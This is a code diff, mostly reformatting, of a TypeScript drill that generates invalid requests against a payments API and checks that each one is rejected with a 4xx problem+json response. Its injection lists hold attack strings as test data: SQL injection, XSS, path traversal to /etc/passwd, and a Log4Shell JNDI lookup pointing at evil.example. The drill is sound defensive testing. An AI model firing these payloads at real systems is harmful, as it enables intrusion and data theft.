@@ -26,16 +26,64 @@ export interface InvalidRequest {
 
 /** Plausible values by field name, for the base example (schemas carry no examples). */
 const FIELD_EXAMPLES: Record<string, unknown> = {
-  externalUserId: 'drill-user-1', amount: '10.50', currency: 'eur', currencyFrom: 'eur', currencyTo: 'usdc', lockId: 'lock-0001',
-  iban: 'DE89370400440532013000', destinationIban: 'DE89370400440532013000', walletAddress: '0x52908400098527886E0F7030069857D2E4169EE7',
-  network: 'ethereum', email: 'jane@example.com', country: 'PL', citizenship: 'PL', nationality: 'PL', firstName: 'Jane', lastName: 'Doe',
-  name: 'Jane Doe', title: 'Invoice 1', dateOfBirth: '1990-01-01', birthDate: '1990-01-01', cardId: 'card-0001', transferId: 'tr-0001',
-  exchangeId: 'ex-0001', withdrawalId: 'wd-0001', cryptoDepositId: 'cd-0001', pin: '1234', runId: '20260101T000000Z-abcdef12',
-  eventId: 'ev-0001', direction: 'FUNDING', monthlyTrxAll: '500.00', dailyTrxAll: '100.00', monthlyTrxAtm: '500.00', dailyTrxAtm: '100.00',
-  monthlyTrxEcom: '500.00', dailyTrxEcom: '100.00', walletType: 'CUSTODIAL', receiverType: 'NATURAL', page: 1, pageSize: 10,
+  externalUserId: 'drill-user-1',
+  amount: '10.50',
+  currency: 'eur',
+  currencyFrom: 'eur',
+  currencyTo: 'usdc',
+  lockId: 'lock-0001',
+  iban: 'DE89370400440532013000',
+  destinationIban: 'DE89370400440532013000',
+  walletAddress: '0x52908400098527886E0F7030069857D2E4169EE7',
+  network: 'ethereum',
+  email: 'jane@example.com',
+  country: 'PL',
+  citizenship: 'PL',
+  nationality: 'PL',
+  firstName: 'Jane',
+  lastName: 'Doe',
+  name: 'Jane Doe',
+  title: 'Invoice 1',
+  dateOfBirth: '1990-01-01',
+  birthDate: '1990-01-01',
+  cardId: 'card-0001',
+  transferId: 'tr-0001',
+  exchangeId: 'ex-0001',
+  withdrawalId: 'wd-0001',
+  cryptoDepositId: 'cd-0001',
+  pin: '1234',
+  runId: '20260101T000000Z-abcdef12',
+  eventId: 'ev-0001',
+  direction: 'FUNDING',
+  monthlyTrxAll: '500.00',
+  dailyTrxAll: '100.00',
+  monthlyTrxAtm: '500.00',
+  dailyTrxAtm: '100.00',
+  monthlyTrxEcom: '500.00',
+  dailyTrxEcom: '100.00',
+  walletType: 'CUSTODIAL',
+  receiverType: 'NATURAL',
+  page: 1,
+  pageSize: 10,
 };
 
-type JsonSchema = { type?: string | string[]; properties?: Record<string, JsonSchema>; required?: string[]; enum?: unknown[]; const?: unknown; anyOf?: JsonSchema[]; oneOf?: JsonSchema[]; allOf?: JsonSchema[]; items?: JsonSchema; minItems?: number; minLength?: number; maxLength?: number; minimum?: number; format?: string; pattern?: string };
+type JsonSchema = {
+  type?: string | string[];
+  properties?: Record<string, JsonSchema>;
+  required?: string[];
+  enum?: unknown[];
+  const?: unknown;
+  anyOf?: JsonSchema[];
+  oneOf?: JsonSchema[];
+  allOf?: JsonSchema[];
+  items?: JsonSchema;
+  minItems?: number;
+  minLength?: number;
+  maxLength?: number;
+  minimum?: number;
+  format?: string;
+  pattern?: string;
+};
 
 function jsonSchemaOf(schema: z.ZodType): JsonSchema {
   try {
@@ -76,8 +124,26 @@ function exampleOf(s: JsonSchema, name = ''): unknown {
 }
 
 // biome-ignore lint/suspicious/noTemplateCurlyInString: '${jndi:...}' is a deliberate literal (Log4Shell-style payload), never a template
-const INJECTIONS = ["' OR 1=1 --", '<script>alert(1)</script>', '../../etc/passwd', '${jndi:ldap://evil.example/a}', '"; DROP TABLE users; --', '{{7*7}}', '\u0000', '\u202Eevil'];
-const WRONG_TYPES: [string, unknown][] = [['number', 12345], ['boolean', true], ['null', null], ['array', ['a']], ['object', { a: 1 }], ['negative', '-1'], ['exponent', '1e3'], ['empty', '']];
+const INJECTIONS = [
+  "' OR 1=1 --",
+  '<script>alert(1)</script>',
+  '../../etc/passwd',
+  '${jndi:ldap://evil.example/a}',
+  '"; DROP TABLE users; --',
+  '{{7*7}}',
+  '\u0000',
+  '\u202Eevil',
+];
+const WRONG_TYPES: [string, unknown][] = [
+  ['number', 12345],
+  ['boolean', true],
+  ['null', null],
+  ['array', ['a']],
+  ['object', { a: 1 }],
+  ['negative', '-1'],
+  ['exponent', '1e3'],
+  ['empty', ''],
+];
 
 interface Candidate {
   label: string;
@@ -136,13 +202,25 @@ function candidatesOf(op: Operation): Candidate[] {
   // Path parameters: injections, encoded slashes, traversal, over-long.
   for (const p of Object.keys(base.params)) {
     // biome-ignore lint/suspicious/noTemplateCurlyInString: '${jndi:...}' is a deliberate literal (Log4Shell-style payload), never a template
-    for (const [i, v] of ['a/b', '../../etc/passwd', '..\\..\\windows', "' OR 1=1 --", '<script>', '${jndi:ldap://x/a}', 'x'.repeat(300), 'a b', '%00', 'é'].entries()) {
+    for (const [i, v] of [
+      'a/b',
+      '../../etc/passwd',
+      '..\\..\\windows',
+      "' OR 1=1 --",
+      '<script>',
+      '${jndi:ldap://x/a}',
+      'x'.repeat(300),
+      'a b',
+      '%00',
+      'é',
+    ].entries()) {
       clone(`path.${p}: #${i}`, (c) => (c.params[p] = v));
     }
   }
   // Query parameters: wrong types, injections, unknown keys.
   for (const q of Object.keys(jsonSchemaOf(op.request.query ?? z.object({}).strict()).properties ?? {})) {
-    for (const [i, v] of ['-1', 'abc', '1e309', "' OR 1=1 --", '<script>', 'x'.repeat(5000), '0', '999999999999'].entries()) clone(`query.${q}: #${i}`, (c) => (c.query[q] = v));
+    for (const [i, v] of ['-1', 'abc', '1e309', "' OR 1=1 --", '<script>', 'x'.repeat(5000), '0', '999999999999'].entries())
+      clone(`query.${q}: #${i}`, (c) => (c.query[q] = v));
   }
   clone('query: unknown parameter', (c) => (c.query['__proto__x'] = '1'));
   // Body fields: missing, wrong types, injections, huge strings, unknown field.
@@ -155,7 +233,11 @@ function candidatesOf(op: Operation): Candidate[] {
       for (const n of [1_000, 20_000, 200_000]) clone(`body.${f}: ${n} chars`, (c) => ((c.body as Record<string, unknown>)[f] = 'A'.repeat(n)));
       clone(`body.${f}: invalid UTF-8`, (c) => {
         const b = { ...(c.body as Record<string, unknown>), [f]: '@@BAD@@' };
-        c.raw = Buffer.concat(JSON.stringify(b).split('"@@BAD@@"').flatMap((part, i) => (i === 0 ? [Buffer.from(part)] : [Buffer.from('"\xff\xfe\xc3\x28"', 'latin1'), Buffer.from(part)])));
+        c.raw = Buffer.concat(
+          JSON.stringify(b)
+            .split('"@@BAD@@"')
+            .flatMap((part, i) => (i === 0 ? [Buffer.from(part)] : [Buffer.from('"\xff\xfe\xc3\x28"', 'latin1'), Buffer.from(part)])),
+        );
         c.contentType = 'application/json';
       });
     }
@@ -165,12 +247,25 @@ function candidatesOf(op: Operation): Candidate[] {
     clone('body: not accepted', (c) => (c.body = { unexpected: "' OR 1=1 --" }));
   }
   // Transport: malformed JSON, wrong media type, oversized body, bad Idempotency-Key.
-  clone('transport: malformed JSON', (c) => { c.raw = Buffer.from('{"amount": "10.50",'); c.contentType = 'application/json'; });
-  clone('transport: text/plain', (c) => { c.raw = Buffer.from(JSON.stringify(base.body ?? { a: 1 })); c.contentType = 'text/plain'; });
-  clone('transport: 300 KB body', (c) => { c.raw = Buffer.from(JSON.stringify({ pad: 'x'.repeat(300 * 1024) })); c.contentType = 'application/json'; });
-  clone('transport: form body', (c) => { c.raw = Buffer.from('a=1&b=2'); c.contentType = 'application/x-www-form-urlencoded'; });
+  clone('transport: malformed JSON', (c) => {
+    c.raw = Buffer.from('{"amount": "10.50",');
+    c.contentType = 'application/json';
+  });
+  clone('transport: text/plain', (c) => {
+    c.raw = Buffer.from(JSON.stringify(base.body ?? { a: 1 }));
+    c.contentType = 'text/plain';
+  });
+  clone('transport: 300 KB body', (c) => {
+    c.raw = Buffer.from(JSON.stringify({ pad: 'x'.repeat(300 * 1024) }));
+    c.contentType = 'application/json';
+  });
+  clone('transport: form body', (c) => {
+    c.raw = Buffer.from('a=1&b=2');
+    c.contentType = 'application/x-www-form-urlencoded';
+  });
   if (op.kind === 'money') {
-    for (const [i, k] of [undefined, '', 'short', 'x'.repeat(200), 'key with spaces 123', 'key#hash#12345', "' OR 1=1 --"].entries()) clone(`header.Idempotency-Key: #${i}`, (c) => (c.idemKey = k));
+    for (const [i, k] of [undefined, '', 'short', 'x'.repeat(200), 'key with spaces 123', 'key#hash#12345', "' OR 1=1 --"].entries())
+      clone(`header.Idempotency-Key: #${i}`, (c) => (c.idemKey = k));
   }
   // A GET carries no body (fetch and API Gateway alike): those spoilers apply to the other methods.
   const sendable = op.route.method === 'GET' ? out.filter((c) => c.raw === undefined && c.body === undefined) : out;
@@ -206,7 +301,14 @@ export function generateInvalidRequests(count: number, seed = 1): GeneratedSet {
         }
         if (c.idemKey !== undefined) headers['idempotency-key'] = c.idemKey;
         const qs = new URLSearchParams(c.query).toString();
-        return { operationId: op.operationId, label: c.label, method: op.route.method, path: fill(op.route.path, c.params) + (qs ? `?${qs}` : ''), headers, ...(body ? { body } : {}) };
+        return {
+          operationId: op.operationId,
+          label: c.label,
+          method: op.route.method,
+          path: fill(op.route.path, c.params) + (qs ? `?${qs}` : ''),
+          headers,
+          ...(body ? { body } : {}),
+        };
       }),
     );
   }
@@ -260,7 +362,8 @@ export async function runInvalidDrill(s: TestSuite, o: { count: number; seed?: n
     await res.arrayBuffer();
     byStatus[res.status] = (byStatus[res.status] ?? 0) + 1;
     if (res.status < 400 || res.status >= 500) not4xx.push(`${r.operationId} ${r.label}: ${res.status}`);
-    else if (!(res.headers.get('content-type') ?? '').includes('application/problem+json')) notProblemJson.push(`${r.operationId} ${r.label}: ${res.headers.get('content-type')}`);
+    else if (!(res.headers.get('content-type') ?? '').includes('application/problem+json'))
+      notProblemJson.push(`${r.operationId} ${r.label}: ${res.headers.get('content-type')}`);
   });
   const after = await s.control<{ total: number; routes: Record<string, number> }>('GET', '/_sandbox/stats');
   const upstreamRoutes: Record<string, number> = {};
